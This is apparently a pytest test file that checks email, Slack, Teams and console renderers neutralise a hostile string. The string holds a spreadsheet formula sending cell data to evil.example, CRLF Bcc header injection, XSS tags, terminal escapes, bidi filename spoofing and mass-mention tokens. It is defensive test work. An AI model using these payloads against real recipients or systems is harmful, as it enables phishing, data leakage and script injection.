"""Hostile text in every place that a page, a server or a source can fill, through every channel."""

import json
import re
from collections.abc import Callable

import pytest
from selectolax.lexbor import LexborHTMLParser

from monitor.record.values import EventType, Reminder
from tests.fakes.slack import problems
from tests.workers.channels.email.sending import by_mail, mailed, part
from tests.workers.channels.made_up import WATCH, described, message, notice, state, subject
from tests.workers.channels.slack.sending import BY_API, BY_WEBHOOK, to_slack
from workers.channels.console.render import render as on_console
from workers.channels.email.html import breaks
from workers.channels.slack.render import render as in_slack
from workers.channels.slack.render import render_plain
from workers.channels.teams.render import render as in_teams
from workers.channels.teams.settings import TeamsSubscription
from workers.channels.text.inert import mrkdwn, one_line, safe, subject_line
from workers.values import Cause, DescribedEvent, Message, Signal

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"open") @channel @here <!here> <!channel> <!subteam^S1> <@U1> '
    "<https://evil.example|gao.gov> [gao.gov](https://evil.example) \x1b]0;title\x07\x1b[2J\x9b31m "
    "\u202etxt.exe\u2066 \u061c\U000e0041 \ud800 \r\nBcc: victim@example.org\r\n\r\n.\r\n "
    "=?utf-8?q?=0ABcc=3A_x?= "
    "</p><script>alert(1)</script><a href='javascript:alert(1)'>x</a><img src=x onerror=alert(1)> {{ 7*7 }} "
    "\u2028\x0b\x0c\x85 last"
)
UNSAFE = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u206f\ud800-\udfff\U000e0000-\U000e007f]"
)


def change(kind: EventType = EventType.UPDATED, number: int = 7, **more: object) -> DescribedEvent:
    """Every word of it is hostile."""
    about = subject(
        product=HOSTILE,
        number=HOSTILE,
        agency=HOSTILE,
        title=HOSTILE,
        text=HOSTILE,
        url=f"javascript:{HOSTILE}",
    )
    sides = {
        "old": state(HOSTILE, status=HOSTILE, text=HOSTILE),
        "new": state(f"{HOSTILE} more", text=HOSTILE),
    }
    if kind == EventType.OPENED:
        sides = {"old": None, "new": sides["new"]}
    if kind == EventType.VANISHED:
        sides = {"old": sides["old"], "new": None}
    return described(
        kind,
        id=f"evt_{number:022d}",
        recommendation_id=number,
        subject=about,
        signals=(
            Signal("deadline_moved", HOSTILE, HOSTILE, HOSTILE, 2),
            Signal("agency_position", HOSTILE, HOSTILE),
        ),
        runs=(("equal", HOSTILE), ("delete", HOSTILE), ("insert", HOSTILE)),
        **{**sides, **more},
    )


def scenes(make: Callable[..., Message]) -> dict[str, Message]:
    """A change of each kind, several, a digest, an empty one and a notice."""
    reminder = {"reminder": Reminder(HOSTILE, HOSTILE)}
    kinds = {
        str(kind): make(change(kind, **(reminder if kind == EventType.OVERDUE else {}))) for kind in EventType
    }
    several = [change(number=number) for number in range(1, 4)]
    trouble = notice(message=HOSTILE, concerns=HOSTILE, outcome=HOSTILE)
    return kinds | {
        "summary": make(*several, cause=Cause.SUMMARY),
        "digest": make(*several, cause=Cause.DIGEST, watch=WATCH),
        "empty": make(cause=Cause.DIGEST, watch=WATCH),
        "notice": make(notice=trouble, cause=Cause.NOTICE),
    }


SCENES = (*map(str, EventType), "summary", "digest", "empty", "notice")


@pytest.mark.parametrize("scene", SCENES)
def test_a_mail_is_inert(scene: str) -> None:
    """No header but ours, no element, no script and no address but ours; nothing that moves or hides."""
    mail = mailed(scenes(by_mail)[scene])
    names = {name.lower() for name in mail}
    assert not names & {"bcc", "cc", "reply-to"}
    assert not UNSAFE.search(str(mail["Subject"]))
    assert "=?" not in str(mail["Subject"])
    html, text = part(mail, "html"), part(mail, "plain")
    assert not UNSAFE.search(html + text)
    tree = LexborHTMLParser(html)
    assert not tree.css("script, img, iframe, form, object, link, base")
    addresses = [node.attributes.get("href") or "" for node in tree.css("a")]
    assert all(re.match(r"https://www\.gao\.gov(/|$)|mailto:operators@", each) for each in addresses)
    assert not any(name.startswith("on") for node in tree.css("*") for name in node.attributes)


@pytest.mark.parametrize("scene", SCENES)
@pytest.mark.parametrize("subscription", [BY_API, BY_WEBHOOK], ids=["api", "webhook"])
def test_a_slack_message_is_inert(scene: str, subscription: object) -> None:
    """Texts stand where Slack reads no markup; where it does, nothing is a link and nobody is mentioned."""
    made = scenes(lambda *events, **how: to_slack(*events, subscription=subscription, **how))[scene]
    payload = in_slack(made)
    assert problems(payload) == []
    for marked in (payload["text"], render_plain(made)):
        assert not re.search(r"[<>]|(?i:@(channel|here|everyone))", marked)
        assert not UNSAFE.search(marked)
    blocks = json.dumps(payload["blocks"], ensure_ascii=False)
    assert "mrkdwn" not in blocks
    assert not UNSAFE.search("".join(strings(payload["blocks"])))
    urls = re.findall(r'"url": "([^"]*)"', blocks)
    assert all(each.startswith("https://www.gao.gov") for each in urls)


@pytest.mark.parametrize("scene", SCENES)
def test_a_teams_card_is_inert(scene: str) -> None:
    """Texts stand in runs, where Teams reads no Markdown and no mention; no address but ours."""
    keys = {"id": "t", "channel": "teams", "webhook_url": "https://example.org/x"}
    to = TeamsSubscription.model_validate(keys)
    payload = in_teams(scenes(lambda *events, **how: message(*events, subscription=to, **how))[scene])
    card = payload["attachments"][0]["content"]
    assert {element["type"] for element in card["body"]} == {"RichTextBlock"}
    assert "entities" not in card["msteams"]
    assert not UNSAFE.search("".join(strings(payload)))
    urls = re.findall(r'"url": "([^"]*)"', json.dumps(payload))
    assert all(each.startswith("https://www.gao.gov") for each in urls)


def strings(item: object) -> list[str]:
    """Every string in a structure."""
    if isinstance(item, str):
        return [item]
    inner = item.values() if isinstance(item, dict) else item if isinstance(item, list) else ()
    return [text for each in inner for text in strings(each)]


@pytest.mark.parametrize("scene", SCENES)
@pytest.mark.parametrize("colour", [True, False])
def test_a_terminal_is_left_alone(scene: str, colour: bool) -> None:
    """No control sequence but our own styles."""
    shown = on_console(scenes(message)[scene], colour=colour)
    own = re.sub(r"\x1b\[[0-9;]*m", "", shown)
    assert not UNSAFE.search(own)
    assert colour or own == shown


@pytest.mark.parametrize("inert", [safe, one_line, subject_line, mrkdwn, lambda text: str(breaks(text))])
def test_each_function_makes_everything_inert(inert: Callable[[str], str]) -> None:
    """Applied twice it changes no more than once, but for escaping."""
    once = inert(HOSTILE)
    assert not UNSAFE.search(once)
    if inert in (safe, one_line, subject_line):
        assert inert(once) == once


def test_mentions_in_mrkdwn_are_words() -> None:
    """With and without angle brackets, in any case; other text is as it was."""
    assert mrkdwn("<!here> @Channel a@b.example @herein & co") == (
        "&lt;!here&gt; @\u200bChannel a@b.example @\u200bherein &amp; co"
    )
